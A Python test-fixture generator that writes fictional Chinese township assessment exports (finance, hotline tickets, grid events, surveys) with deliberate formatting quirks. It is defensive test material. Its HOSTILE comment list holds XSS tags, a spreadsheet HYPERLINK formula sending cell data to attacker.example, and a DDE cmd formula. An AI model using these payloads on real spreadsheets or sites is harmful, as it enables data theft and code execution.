#!/usr/bin/env python3
"""Writes the made-up exports of Inputs/leping-2025, the same bytes every time.

    python3 Tests/Generators/leping_2025.py [FOLDER]        (default: Inputs/leping-2025 of this checkout)

Standard library only. Every choice comes from one PCG32 stream per export and integer arithmetic, so no Python version
changes it; only the compressed bytes of hotline/*.csv.gz depend on the zlib in use, which is why they are committed.
No place, person or figure is real. The quirks are those seen in real exports; each stands beside the code that makes it.
"""

import struct
import sys
import zlib
from datetime import datetime, timedelta
from pathlib import Path
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2] / "Inputs" / "leping-2025"


class Random:
    """PCG32 (XSH RR), integers only."""

    def __init__(self, seed):
        self.state = (seed * 2 + 1) & (2**64 - 1)
        self.next()

    def next(self):
        old = self.state
        self.state = (old * 6364136223846793005 + 1442695040888963407) & (2**64 - 1)
        word = (((old >> 18) ^ old) >> 27) & 0xFFFFFFFF
        turn = old >> 59
        return (word >> turn | word << (32 - turn)) & 0xFFFFFFFF

    def below(self, n):
        return self.next() * n >> 32

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def chance(self, permille):
        return self.below(1000) < permille

    def pick(self, items):
        return items[self.below(len(items))]

    def weighted(self, pairs):
        at = self.below(sum(weight for _, weight in pairs))
        for item, weight in pairs:
            if at < weight:
                return item
            at -= weight


# The cast. Permilles unless said otherwise; `budget` in 万元, `execution` of the year's budget in permille.
FARMING, URBAN = "农业乡镇", "城关镇街"
COLUMNS = (
    "code name short finance category people basin budget execution resolved timely satisfied survey grid quick water "
    "rating training disputes urgent first second river honours"
)
# first, second: farming 土地流转 (permille of the target), 特色产业 (permille); urban 治理创新 (count), 流动人口服务 (permille).
# water None: no monitored section; rating None: nobody rated it; river: pollution cases put right late.
TABLE = """
YL01 青榆镇 青榆 301001 F 41200 榆溪 5200 962 948 978 925 895 965 870 890 900 955 930 5 960 985 0 1
YL02 白鹭滩镇 白鹭滩 301002 F 38650 榆溪 4800 960 950 976 905 875 955 870 905 905 950 930 5 930 960 1 0
YL03 云岫镇 云岫 301003 F 29800 岫水 4000 960 950 976 915 880 960 865 900 905 960 930 5 940 975 0 1
YL04 稻熟镇 稻熟 301004 F 33400 岫水 4500 905 900 950 850 820 925 810 850 870 900 880 4 800 880 2 0
YL05 㳇源镇 㳇源 301005 F 27350 岫水 3600 961 952 974 925 895 962 880 905 910 960 940 5 950 980 0 0
YL06 松鹤岭乡 松鹤岭 301006 F 15200 鹤河 2100 930 915 960 870 850 935 830 - 880 880 900 4 850 890 1 0
YL07 竹影乡 竹影 301007 F 12880 鹤河 1900 842 850 900 790 740 880 740 800 820 820 820 3 640 760 3 0
YL08 柳荫堤镇 柳荫堤 301008 F 36100 榆溪 4300 886 880 935 830 800 910 790 840 855 870 860 4 760 850 1 0
YL09 桃坞坪镇 桃坞坪 301009 F 30900 鹤河 3900 790 780 850 700 650 800 650 720 760 700 740 2 450 640 9 0
YL10 石桅镇 石桅 301010 F 24600 榆溪 3200 868 862 920 810 770 895 770 820 840 850 840 3 700 800 2 0
YL11 雁回坡乡 雁回坡 301011 F 11900 鹤河 1800 905 640 660 560 480 640 470 560 660 480 600 0 260 420 5 0
YL12 锦棠街道 锦棠 302001 U 88300 榆溪 9600 965 950 978 925 905 965 885 920 915 965 950 6 9 955 0 2
YL13 钟楼湾街道 钟楼湾 302002 U 76500 榆溪 8800 958 945 974 910 885 955 870 905 905 950 930 5 9 945 0 4
YL14 临榆城关镇 临榆 302003 U 102400 榆溪 12000 944 940 972 905 880 955 865 895 900 945 930 5 9 945 1 1
YL15 文澜街道 文澜 302004 U 64200 岫水 7400 915 905 950 860 830 930 820 860 875 910 890 4 8 910 2 0
YL16 望津街道 望津 302005 U 58700 岫水 6900 873 870 925 815 780 900 770 830 845 860 850 4 7 870 1 0
YL17 朝晖里街道 朝晖里 302006 U 71300 鹤河 8100 740 700 760 620 560 700 520 640 700 560 640 1 3 640 6 0
YL18 新沚街道 新沚 302007 U 22100 鹤河 3000 892 880 930 830 790 905 790 840 - 880 860 4 6 - 1 0
"""


class Unit:
    def __init__(self, line):
        for name, text in zip(COLUMNS.split(), line.split()):
            setattr(self, name, None if text == "-" else int(text) if text.isdigit() and name != "finance" else text)
        self.category = FARMING if self.category == "F" else URBAN
        self.aliases = [self.short, self.name + ("办事处" if self.name.endswith("街道") else "人民政府"), self.finance]


UNITS = [Unit(line) for line in TABLE.split("\n") if line]
LAND = {"YL01": 6200, "YL02": 5400, "YL03": 4800, "YL04": 5000, "YL05": 4000, "YL06": 2600, "YL07": 2000,
        "YL08": 5200, "YL09": 4600, "YL10": 3600, "YL11": 1800}  # 亩
OUTPUT = {"YL01": 8600, "YL02": 7400, "YL03": 6500, "YL04": 6800, "YL05": 5600, "YL06": 3400, "YL07": 2700,
          "YL08": 6900, "YL09": 6100, "YL10": 5000, "YL11": 2400}  # 万元
TRAINING = {"YL02": 400, "YL03": 400, "YL16": 400, "YL18": 400}  # 人次; 300 elsewhere
# Training done, where it was set by hand so that scores tie. YL02 and YL03 tie to the last digit, also in execution, at the
# edge of the quota of 优秀 (rank 3 of 3 places); YL16 and YL18 tie in score and execution decides. One person is 0.005
# points there. Whoever changes the figures or the scheme looks at the oracle's table and sets these again.
TRAINED = {"YL02": 344, "YL03": 380, "YL16": 248, "YL18": 386}
# Cultural events: promised in the responsibility letter, held. A third of the units fall well short, which makes it everybody's weakness.
CULTURE = {"YL01": (48, 46), "YL02": (48, 47), "YL03": (40, 24), "YL04": (40, 21), "YL05": (36, 36), "YL06": (24, 11), "YL07": (24, 9),
           "YL08": (40, 33), "YL09": (36, 14), "YL10": (36, 19), "YL11": (20, 5), "YL12": (60, 61), "YL13": (60, 58), "YL14": (72, 66),
           "YL15": (48, 40), "YL16": (48, 41), "YL17": (48, 23), "YL18": (30, 25)}


def rows_text(rows, line_end):
    """RFC 4180; a cell that is already quoted passes as it is."""

    def cell(text):
        if text.startswith('"') and text.endswith('"') and len(text) > 1:
            return text
        return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text

    return "".join(",".join(cell(text) for text in row) + line_end for row in rows)


def write(path, text, encoding="utf-8"):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode(encoding))


def gzip_member(data):
    """One member with no name and no time, written here because Python's header differs between versions."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush()
    return b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + body + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def fullwidth(text):
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def fixed(hundredths):
    return f"{hundredths // 100}.{hundredths % 100:02d}"


def grouped(hundredths):
    return f"{hundredths // 100:,}.{hundredths % 100:02d}"


def amount(random, hundredths):
    """`1,234.50` in quotes, `43.5 ` padded, full-width digits, plain."""
    shape = random.below(20)
    if shape < 9:
        return '"' + grouped(hundredths) + '"'
    if shape < 13:
        text = fixed(hundredths)
        return (text[:-1] if text.endswith("0") else text) + " "
    return fullwidth(grouped(hundredths)) if shape == 13 else fixed(hundredths)


def iso(time):
    return time.strftime("%Y-%m-%d %H:%M:%S")


def mixed(random, time, dates=0):
    """The shapes of one column over the years; `dates` per thousand lose their clock."""
    if random.chance(dates):
        return f"{time.year}年{time.month}月{time.day}日"
    if random.chance(120):
        return f"{time.year}/{time.month}/{time.day} {time.hour}:{time.minute:02d}"
    return fullwidth(iso(time)[:10]) + iso(time)[10:] if random.chance(1) else iso(time)


def month_start(month):
    """Months count on: 0 is December 2024, 13 is January 2026."""
    year, rest = divmod(2024 * 12 + 11 + month, 12)
    return datetime(year, rest + 1, 1)


def called(random, unit, code=500, name=350):
    """A unit by code, by name or by alias, at times padded with U+3000 or NBSP."""
    at = random.below(1000)
    text = unit.code if at < code else unit.name if at < code + name else unit.aliases[random.below(2)]
    return text + random.pick(["\u3000", "\u00a0", " "]) if random.chance(15) else text


# --- units.csv, holidays.csv -------------------------------------------------------------------------------------------

def write_units(root):
    rows = [["单位编码", "单位名称", "别名", "类别", "邮箱", "常住人口", "流域", "土地流转目标", "特色产业产值目标",
             "治理创新目标", "干部培训目标", "文化活动目标"]]
    for unit in UNITS:
        mail = f"{unit.code.lower()}@mail.example"
        farming = unit.category == FARMING
        rows.append([
            unit.code, unit.name, "；".join(unit.aliases), unit.category,
            mail + (f"；kaohe.{mail}" if unit.code in ("YL01", "YL12") else ""), f"{unit.people:,}", unit.basin,
            f"{LAND[unit.code]:,}" if farming else "—", f"{OUTPUT[unit.code]}.00" if farming else "—",
            "—" if farming else "10", str(TRAINING.get(unit.code, 300)), str(CULTURE[unit.code][0]),
        ])
    write(root / "units.csv", "\ufeff" + rows_text(rows, "\r\n"))


def write_holidays(root):
    off = [("2025-01-01", 1), ("2025-01-28", 8), ("2025-04-04", 3), ("2025-05-01", 5), ("2025-05-31", 3), ("2025-10-01", 8)]
    days = [(datetime.fromisoformat(first) + timedelta(days=n), "休") for first, length in off for n in range(length)]
    days += [(datetime.fromisoformat(day), "班") for day in ("2025-01-26", "2025-02-08", "2025-04-27", "2025-09-28", "2025-10-11")]
    rows = [["日期", "类型"]] + [[day.strftime("%Y-%m-%d"), kind] for day, kind in sorted(days)]
    write(root / "holidays.csv", "\ufeff" + rows_text(rows, "\r\n"))


# --- finance: cumulative, GB18030 --------------------------------------------------------------------------------------

def write_finance(root):
    random = Random(301)
    for month in range(1, 13):
        label = [f"2025-{month:02d}", f"2025年{month}月", f"2025{month:02d}"][0 if month < 7 else 1 if month < 10 else 2]
        rows = [["预算单位编码", "预算单位名称", "月份", "预算数", "支出数"]]
        totals = [0, 0]
        for unit in UNITS:
            if unit.code == "YL11" and month == 12:
                continue  # did not report December: November stands for the year
            budget = unit.budget * 100 * (95 if month < 7 else 100) // 100  # raised by the mid-year adjustment
            paid = unit.budget * 100 * unit.execution // 1000
            if month < 12:
                paid = paid * (month * 78 + random.between(-20, 20)) // 1000
            parts = [(unit.name, budget, paid)]
            if unit.code in ("YL02", "YL08", "YL14"):  # two rows a month: the office and its institutions
                share = budget // 500 * 100, paid // 4
                parts = [(unit.name, budget - share[0], paid - share[1]), (unit.name + "所属事业单位", *share)]
            for name, b, p in parts:
                totals[0] += b
                totals[1] += p
                rows.append([unit.finance, name, label, amount(random, b), amount(random, p)])
        first, second = ("合计", "") if month < 7 else ("", "合计")  # the word moved with the new system
        rows.append([first, second, label, '"' + grouped(totals[0]) + '"', '"' + grouped(totals[1]) + '"'])
        write(root / f"finance/2025-{month:02d}.csv", rows_text(rows, "\r\n"), "gb18030")


# --- hotline: overlapping monthly exports ------------------------------------------------------------------------------

TOPICS = [("城乡建设->道路养护", "道路破损"), ("城乡建设>供水排水", "污水管网堵塞"), ("环境保护_噪声", "夜间施工噪声"),
          ("环境保护->河道", "河面漂浮垃圾"), ("农业农村->土地承包", "土地承包纠纷"), ("农业农村_惠农补贴", "补贴发放咨询"),
          ("民政->低保救助", "低保申请进度"), ("公安>户籍", "户籍迁移办理"), ("市场监管->消费维权", "商家拒不退款"),
          ("城市管理_占道经营", "占道经营扰民"), ("教育->学区", "学区划分咨询"), ("卫生健康->医保", "医保报销比例")]
PLACES = ["村口", "农贸市场东侧", "小学门前", "三组", "老街中段", "安置小区北门", "河堤路", "卫生院对面"]
WORDS = ["多次反映仍未处理", "希望尽快解决", "影响周边居民出行", "已持续一周", "请协调相关部门", "要求书面答复", "雨天尤为严重"]
PRAISE = ["处理及时，表示感谢", "工作人员态度好", "已解决"]
BLAME = ["只打了电话，没有人到现场", "答复与事实不符", "拖了很久才处理，效果不好", "说好回访，一直没有消息", "问题反弹，请再核查"]
HOSTILE = ["<script>alert('满意')</script>", '=HYPERLINK("http://attacker.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+86没人接电话", "</td></table><img src=x onerror=alert(1)>", "{{{secret}}} {{#rows}}", "说“已办结”,实际\"没\u0301有\"",
           "-1+1", "倒序\u202e试试"]
UNKNOWN = ["市住房和城乡建设局", "YL81", "高新区管委会", "", "青榆"[::-1]]


class Ticket:
    def __init__(self, random, unit, received):
        self.unit, self.received = unit, received
        self.kind = random.weighted([("投诉举报", 22), ("投诉", 8 + (1000 - unit.resolved) // 25), ("求助", 40), ("咨询", 22), ("建议", 8)])
        self.dispatched = received + timedelta(minutes=random.between(3, 600))
        days = 1 if self.kind == "咨询" else random.pick([5, 5, 7, 10])
        self.due = received + timedelta(days=days)
        span = days * 86400
        if random.chance(unit.timely):
            self.closed = received + timedelta(seconds=random.between(span // 20, span * 19 // 20))
        else:
            self.closed = self.due + timedelta(seconds=random.between(3600, 86400 * 12)) if random.chance(850) else None
        self.visited = self.closed and self.closed + timedelta(seconds=random.between(7200, 86400 * 4))
        at = random.below(1000)
        self.resolved = "解决" if at < unit.resolved * 9 // 10 else ""
        if not self.resolved:
            at = random.below(1000 - unit.resolved * 9 // 10)
            blank = unit.resolved // 10  # about a tenth were not asked, good and bad alike
            self.resolved = "" if at < blank else random.pick(["部分解决", "未解决", "未解决"])
        at = random.below(1000)
        self.satisfied = random.weighted([("", 12), ("未评价", 25), (None, 63)])
        if self.satisfied is None:
            self.satisfied = ("满意" if random.chance(650) else "基本满意") if at < unit.satisfied else "不满意"
        self.comment = random.pick(PRAISE) if random.chance(60) else ""
        if self.satisfied == "不满意" and random.chance(450):
            self.comment = random.pick(HOSTILE) if random.chance(60) else random.pick(BLAME)
            if random.chance(80):
                self.comment += "\n另：" + random.pick(WORDS)
        topic, subject = random.pick(TOPICS)
        place = random.pick(PLACES)
        self.topic, self.title = topic, f"反映{unit.name}{place}{subject}"
        self.content = f"来电人反映{place}{subject}，{random.pick(WORDS)}。"
        if random.chance(40):
            self.content += random.pick(["\r\n", "\n"]) + f"补充：{random.pick(WORDS)}，称\"{random.pick(WORDS)}\"。"
        self.caller = random.pick("赵钱孙李周吴郑王冯陈") + random.pick(["先生", "女士"])
        self.phone = f"1990000{random.below(10000):04d}"  # no operator has this block
        self.calls = called(random, unit)
        self.id = ""

    def changed(self, cut):
        """The last event at or before the cut."""
        return max(t for t in (self.dispatched, self.closed, self.visited) if t and t <= cut or t is self.dispatched)

    def row(self, random, cut, updated=None, **other):
        closed = self.closed if self.closed and self.closed <= cut else None
        asked = self.visited is not None and self.visited <= cut
        cells = {
            "id": self.id, "kind": self.kind, "topic": self.topic, "title": self.title, "content": self.content,
            "caller": self.caller, "phone": self.phone, "unit": self.calls, "received": mixed(random, self.received, 20),
            # undeclared columns may hold anything: this one does
            "dispatched": "-" if random.chance(10) else iso(self.dispatched),
            "due": mixed(random, self.due, 3),
            "closed": mixed(random, closed, 2) if closed else random.pick(["null", "", "0001-01-01T00:00:00"]),
            "resolved": self.resolved if asked else "", "satisfied": self.satisfied if asked else "",
            "updated": iso(updated or self.changed(cut)), "comment": self.comment if asked else "",
        }
        cells.update(other)
        return list(cells.values())


def write_hotline(root):
    random = Random(12345)
    per_month = {unit.code: unit.people // 880 + unit.budget // 145 + (1000 - unit.resolved) // 17 for unit in UNITS}
    months = []
    for month in range(13):
        length = (month_start(month + 1) - month_start(month)).days * 86400
        tickets = []
        for unit in UNITS:
            count = per_month[unit.code] * random.between(85, 115) // 100
            for _ in range(count):
                tickets.append(Ticket(random, unit, month_start(month) + timedelta(seconds=random.below(length))))
        tickets.sort(key=lambda t: (t.received, t.unit.code))
        for n, ticket in enumerate(tickets):
            ticket.id = f"GD{month_start(month):%Y%m}{n + 1:05d}"
        months.append(tickets)
    header = "工单编号,工单类型,问题分类,标题,主要内容,来电人,来电人电话,承办单位,受理时间,派单时间,办理时限,办结时间,是否解决,是否满意,更新时间,回访意见"
    for month in range(1, 13):
        cut = month_start(month + 1) + timedelta(days=4, hours=2)
        before = month_start(month) + timedelta(days=4, hours=2)
        rows = []
        for ticket in months[month - 1]:  # what was open, or moved on, since the last export
            if ticket.changed(cut) > before or not ticket.closed or ticket.closed > cut:
                rows.append(ticket.row(random, cut))
        stale = [t for t in months[month - 1] if t.visited and t.visited < before and t.resolved == "解决"]
        if month > 1:
            # an older state sent again must not win; at the same 更新时间 the later file does; a newer record that is
            # rejected leaves the older one in force
            rows.append(stale[7].row(random, cut, updated=stale[7].dispatched, resolved="未解决", satisfied="不满意"))
            rows.append(stale[20].row(random, cut, resolved="未解决", satisfied="不满意", comment="同一更新时间的后到记录"))
            if month % 3 == 0:
                rows.append(stale[33].row(random, cut, updated=cut, resolved="未解决", closed="2025-02-30 10:00:00"))
        for n, ticket in enumerate(months[month]):
            bad = {}
            if n % 900 == 411:
                bad["unit"] = UNKNOWN[(month + n) % len(UNKNOWN)]
            elif n == 707 and month % 2:
                bad["received" if month % 4 == 1 else "due"] = ["2025-13-01 08:00:00", "待定", "2025/6/31 8:30"][month % 3]
            rows.append(ticket.row(random, cut, **bad))
            if n == 55 and month in (2, 8):  # twice in one file at the same time: the later record wins
                rows.append(ticket.row(random, cut, resolved="未解决"))
        text = rows_text([header.replace("承办单位", "责任单位" if month >= 7 else "承办单位").split(",")] + rows, "\r\n")
        data = ("\ufeff" + text).encode("utf-8")
        halves = [data]
        if month == 9:  # two gzip members in one file, as `cat a.gz b.gz` leaves them, cut inside a character
            middle = data.index("，".encode(), len(data) // 2) + 1
            halves = [data[:middle], data[middle:]]
        path = root / f"hotline/2025-{month:02d}.csv.gz"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"".join(gzip_member(half) for half in halves))


# --- grid: XML by quarter ----------------------------------------------------------------------------------------------

KINDS = [("市容环境", 30), ("公共设施", 18), ("安全隐患", 14), ("矛盾纠纷", 13), ("违法建设", 6), ("垃圾清运&保洁", 10), ("秸秆焚烧", 5)]
NOTES = ["网格员巡查发现", "群众<口头>反映", "复查 & 补录", "视频巡检 > 人工核实", "照片3张"]


class Event:
    def __init__(self, random, unit, kind, reported, late=None):
        self.unit, self.kind, self.reported = unit, kind, reported
        hours = 168 if kind in ("河道污染", "违法建设", "矛盾纠纷") else random.pick([48, 72, 120])
        self.due = reported + timedelta(hours=hours)
        in_time = random.chance(unit.grid) if late is None else not late
        if in_time:
            quick = 72 * 36 if random.chance(unit.quick) and kind != "河道污染" else hours * 36
            self.closed = reported + timedelta(seconds=random.between(1800, min(quick, hours * 36) * 98))
        else:
            self.closed = self.due + timedelta(seconds=random.between(3600, 86400 * 9)) if random.chance(800) else None
        if kind == "矛盾纠纷" and not random.chance(unit.disputes):
            self.closed = None
        if self.closed and self.closed > datetime(2026, 1, 5):
            self.closed = None

    def xml(self, random, number):
        def stamp(time):
            at = random.below(100)
            if at == 0:
                return (time - timedelta(hours=8)).strftime("%Y-%m-%dT%H:%M:%SZ")
            return time.strftime("%Y-%m-%dT%H:%M:%S") + ("+08:00" if at < 3 else "")

        kind = escape(self.kind)
        if "&" in self.kind and number % 3 == 0:
            kind = f"<![CDATA[{self.kind}]]>"
        elif number % 97 == 0:  # the same text as numbers and in pieces
            kind = "".join(f"&#x{ord(c):X};" if n % 2 else f"&#{ord(c)};" for n, c in enumerate(self.kind[:2])) + escape(self.kind[2:])
        closed = f"<closed>{stamp(self.closed)}</closed>" if self.closed else "" if number % 10 == 0 else "<closed/>"
        due = "<due/>" if number % 800 == 250 else f"<due>{stamp(self.due)}</due>"  # 缓办: no deadline
        note = random.pick(NOTES)
        note = f"<![CDATA[{note}]]>" if random.chance(200) else escape(note)
        unit = called(random, self.unit, 900, 60)
        if number % 1500 == 700:
            unit = "YL99"
        reported = "2025-04-31T10:00:00" if number % 2600 == 1300 else stamp(self.reported)
        return (f'<event id="WG2025-{number:05d}" unit="{unit}"><category>{kind}</category><times><reported>{reported}</reported>'
                f"{due}{closed}</times><note>{note}</note></event>\n")


def write_grid(root):
    random = Random(30428)
    events = []
    for unit in UNITS:
        for month in range(13):
            length = (month_start(month + 1) - month_start(month)).days * 86400
            count = unit.people // 1700 + unit.budget // 500 + 2 if month else 3  # a few of last December, due this January
            for _ in range(count):
                reported = month_start(month) + timedelta(seconds=random.below(length) if month else length - 3600 * random.between(1, 40))
                events.append(Event(random, unit, random.weighted(KINDS), reported))
        for n in range(unit.river + random.between(4, 14)):  # pollution cases: the first `river` of them put right late
            reported = datetime(2025, 1, 1) + timedelta(hours=random.between(30, 8200))
            events.append(Event(random, unit, "河道污染", reported, late=n < unit.river))
    for unit in (UNITS[3], UNITS[14]):  # reported last year: counts as due this year, costs nothing this year
        events.append(Event(random, unit, "河道污染", datetime(2024, 12, 30, 9, 0, 0), late=True))
    events.sort(key=lambda e: (e.reported, e.unit.code))
    quarters = {q: [] for q in range(1, 5)}
    for number, event in enumerate(events, 1):
        quarters[1 if event.reported.year == 2024 else (event.reported.month + 2) // 3].append(event.xml(random, number))
    for quarter, lines in quarters.items():
        head = f'<?xml version="1.0" encoding="UTF-8"?>\n<!-- 网格化平台导出 -->\n<export><meta><quarter>2025-Q{quarter}</quarter></meta><events>\n'
        write(root / f"grid/2025-Q{quarter}.xml", head + "".join(lines) + "</events></export>\n")


# --- survey, ratings, tasks, environment -------------------------------------------------------------------------------

def write_survey(root):
    random = Random(15)
    for half in (1, 2):
        rows = [["评价单位", "评价结果", "评价时间", "扫码点位"]]
        for n in range(2100):
            unit = random.pick(UNITS)
            time = month_start(half * 6 - 5) + timedelta(seconds=random.below(181 * 86400))
            answer = random.weighted([("满意", unit.survey * 7), ("基本满意", unit.survey * 3), ("不满意", (1000 - unit.survey) * 10),
                                      ("未评价", 600), ("", 400)])
            name = "市政务服务中心" if n % 900 == 444 else called(random, unit, 100, 600)
            rows.append([name, answer, mixed(random, time, 100), random.pick(["便民服务中心", "村（居）公开栏", "公交站牌"])])
        # the first half as the old system wrote it, the second without mark and with LF
        write(root / f"survey/2025-H{half}.csv", ("\ufeff" if half == 1 else "") + rows_text(rows, "\r\n" if half == 1 else "\n"))


GENEROUS = {"上级02": 60, "上级05": -90, "同级04": 50, "同级11": -70, "同级12": -40, "群众07": 45, "群众08": -80, "群众21": -60}  # tenths


def write_ratings(root):
    random = Random(360)
    rows = [["被评单位", "评价主体", "分数", "评委编号"]]
    for unit in UNITS:
        if unit.rating is None:
            continue  # founded in the autumn: nobody has rated it
        for rater, count, bias in (("上级", 8, 10), ("同级", 17, 0), ("群众", 30, -15)):
            if rater == "群众" and unit.code == "YL10":
                continue  # its meeting with residents was called off
            for n in range(count):
                judge = f"{rater}{n + 1:02d}"  # the same panel for all units; some of it generous, some stern
                tenths = min(1000, max(0, unit.rating + bias + random.between(-45, 45) + GENEROUS.get(judge, 0)))
                text = f"{tenths // 10}.{tenths % 10}" if tenths % 10 else str(tenths // 10)
                text = {0: f" {text} ", 1: fullwidth(text), 2: "弃权", 3: f'"{text}"'}.get(random.below(40), text)
                rows.append([unit.name if random.chance(700) else unit.code, rater, text, judge])
    rows[200][2] = "九十"  # a number in words is no number
    write(root / "ratings/2025.csv", "\ufeff" + rows_text(rows, "\r\n"))


def split(random, total, parts):
    """A whole number in `parts` uneven pieces."""
    cuts = sorted(random.between(0, total) for _ in range(parts - 1))
    return [b - a for a, b in zip([0] + cuts, cuts + [total])]


def write_tasks(root):
    random = Random(2025)
    quarters = [[["填报单位", "填报月份", "指标名称", "应完成数", "完成数", "备注"]] for _ in range(4)]

    def report(unit, item, base, done, note=""):
        for quarter in range(4):
            label = [f"2025-{quarter * 3 + 3:02d}", f"2025年{quarter * 3 + 3}月"][quarter % 2]
            quarters[quarter].append([called(random, unit), label, item, base[quarter], done[quarter], note])

    for unit in UNITS:
        blank = [""] * 4
        if unit.category == FARMING:
            land = split(random, LAND[unit.code] * 100 * unit.first // 1000, 4)
            output = split(random, OUTPUT[unit.code] * 100 * unit.second // 1000, 4)
            report(unit, "土地流转面积", blank, [amount(random, x) for x in land], "亩")
            report(unit, "特色产业产值", blank, [amount(random, x) for x in output], "万元")
        else:
            report(unit, "社区治理创新项目", blank, [str(x) for x in split(random, unit.first, 4)], "个")
            served = split(random, unit.people // 8, 4)
            done = [x * (unit.second or 0) // 1000 for x in served]
            if unit.second is None:
                served = done  # a new street: nobody to serve yet, so the denominator is zero
            report(unit, "流动人口服务", [str(x) for x in served], [str(x) for x in done], "人次")
        target = TRAINING.get(unit.code, 300)
        trained = TRAINED.get(unit.code, target * unit.training // 1000)
        report(unit, "干部培训人次", blank, [str(x) for x in split(random, trained, 4)])
        for n in range(unit.urgent):
            quarters[n % 4].append([unit.name, f"2025-{n % 4 * 3 + 3:02d}", "急难险重任务", "", "1", "防汛抢险" if n % 2 else "森林防火"])
        for n in range(unit.honours):
            quarters[n % 4].append([unit.name, f"2025-{n % 4 * 3 + 3:02d}", "市级以上表彰", "", "1", "表彰文件已附"])
    for quarter, rows in enumerate(quarters, 1):
        write(root / f"tasks/2025-Q{quarter}.csv", "\ufeff" + rows_text(rows, "\r\n"))


def write_environment(root):
    random = Random(9999)
    for month in range(1, 13):
        rows = [["监测月份", "属地", "断面名称", "监测天数", "达标率"]]
        for unit in UNITS:
            if unit.water is None:
                continue  # no monitored section runs through it
            for section in range(2 if unit.people > 60000 else 1):
                rate = min(1000, max(0, unit.water + random.between(-60, 60)))
                text = "-9999" if random.chance(40) else f"{rate // 10}.{rate % 10}%"
                text = fullwidth(text) if random.chance(30) and "%" in text else text
                rows.append([called(random, unit, 300, 600), f"{unit.basin}{unit.short}{'上下'[section]}断面", str(random.between(24, 31)), text])
        rows.append(["全市", "全部断面", "31", "86.0%"])
        rows = rows[:1] + [[f"2025-{month:02d}"] + row for row in rows[1:]]
        write(root / f"environment/2025-{month:02d}.csv", rows_text(rows, "\n"))


# --- key projects, checks, third party, mystery visits, culture, innovation, earlier years --------------------------------

PROJECTS = ["农村供水一体化", "高标准农田", "产业园标准厂房", "老旧小区改造", "乡镇污水管网", "乡村道路提升", "冷链仓储", "便民服务中心新建"]
# Months in which the work stood still for a while, and how far behind it then was, in permille of the pace.
STALLED = {"YL04": {4: 790, 5: 850}, "YL15": {3: 870, 4: 760, 5: 880}, "YL08": {8: 780}}


def write_projects(root):
    """Cumulative, by month: what stands in the last month stands for the year."""
    random = Random(1301)
    first = {unit.code: random.below(len(PROJECTS)) for unit in UNITS if unit.code != "YL18"}
    names = {unit.code: [PROJECTS[(first[unit.code] + n) % len(PROJECTS)] for n in range(1 + unit.budget // 4500)]
             for unit in UNITS if unit.code in first}
    plans = {code: [random.between(8, 60) * 10000 for _ in own] for code, own in names.items()}  # 万元, in hundredths
    for month in range(1, 13):
        rows = [["月份", "责任单位", "项目编号", "项目名称", "年度计划投资", "累计完成投资"]]
        for number, unit in enumerate(UNITS):
            for n, plan in enumerate(plans.get(unit.code, [])):
                pace = min(1000, unit.execution + random.between(-5, 45))
                pace = min(pace, STALLED.get(unit.code, {}).get(month, 1000))
                done = plan * month * pace // 12000
                rows.append([f"2025年{month}月" if month % 4 == 2 else f"2025-{month:02d}", called(random, unit), f"XM{number + 1:02d}{n + 1}",
                             names[unit.code][n], amount(random, plan), amount(random, done)])
        rows.append([f"2025-{month:02d}", "合计", "", "", "", ""])
        write(root / f"projects/2025-{month:02d}.csv", "\ufeff" + rows_text(rows, "\r\n"))


def write_checks(root):
    """The year's end: what was reported held against what the checkers found on the spot."""
    random = Random(1106)
    lines = []
    for unit in UNITS:
        items = ["土地流转面积", "特色产业产值"] if unit.category == FARMING else ["社区治理创新项目", "流动人口服务"]
        for item in items + ["干部培训人次", "文化活动场次"]:
            reported = random.between(20, 400)
            found = reported if random.chance(unit.resolved - 120) else reported * random.between(860, 985) // 1000
            lines.append(f'<check id="HC{len(lines) + 1:03d}" unit="{called(random, unit)}"><item>{item}</item><day>2025-12-{random.between(8, 24):02d}</day>'
                         f"<reported>{reported}</reported><found>{found}</found></check>\n")
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<checks>\n'
    write(root / "checks/2025.xml", head + "".join(lines) + "</checks>\n")


def write_third_party(root):
    random = Random(808)
    rows = [["访问编号", "乡镇（街道）", "受访人类别", "满意度"]]
    for unit in UNITS:
        for _ in range(30):
            score = min(100, max(0, unit.satisfied // 10 + random.between(-9, 9)))
            text = random.weighted([(str(score), 950), ("拒访", 30), (fullwidth(str(score)), 20)])
            rows.append([f"DS{len(rows):04d}", called(random, unit, 100, 700), random.pick(["村民代表", "企业主", "居民", "外来务工人员"]), text])
    write(root / "thirdparty/2025.csv", rows_text(rows, "\n"), "gb18030")


ISSUES = ["窗口无人值守", "未一次性告知所需材料", "办事指南未更新", "排队叫号机停用", "工作日提前离岗"]


def write_mystery(root):
    random = Random(1212)
    for quarter in range(1, 5):
        rows = [[f"2025年第{quarter}季度政务服务暗访汇总", "", "", "", ""], ["暗访日期", "暗访单位", "暗访点位", "得分", "发现问题"]]
        for unit in UNITS:
            for _ in range(2):
                day = month_start(quarter * 3 - 2) + timedelta(days=random.below(85))
                score = min(100, max(40, (unit.timely + unit.resolved) // 20 + random.between(-7, 6)))
                issue = random.pick(ISSUES) if score < 84 else ""
                rows.append([day.strftime("%Y-%m-%d"), called(random, unit), random.pick(["便民服务中心", "派出所户籍窗口", "村（社区）代办点"]),
                             *((str(score), issue) if random.chance(970) else ("未开门", "工作时间未开门"))])
        write(root / f"mystery/2025-Q{quarter}.csv", "\ufeff" + rows_text(rows, "\r\n"))


def write_culture(root):
    random = Random(1010)
    for quarter in range(1, 5):
        rows = [["单位", "季度末月", "活动场次", "参加人次"]]
        for unit in UNITS:
            held = CULTURE[unit.code][1]
            part = held // 4 + (1 if quarter <= held % 4 else 0)
            rows.append([called(random, unit), f"2025-{quarter * 3:02d}", str(part), str(part * random.between(40, 160))])
        write(root / f"culture/2025-Q{quarter}.csv", rows_text(rows, "\n"))


def write_innovation(root):
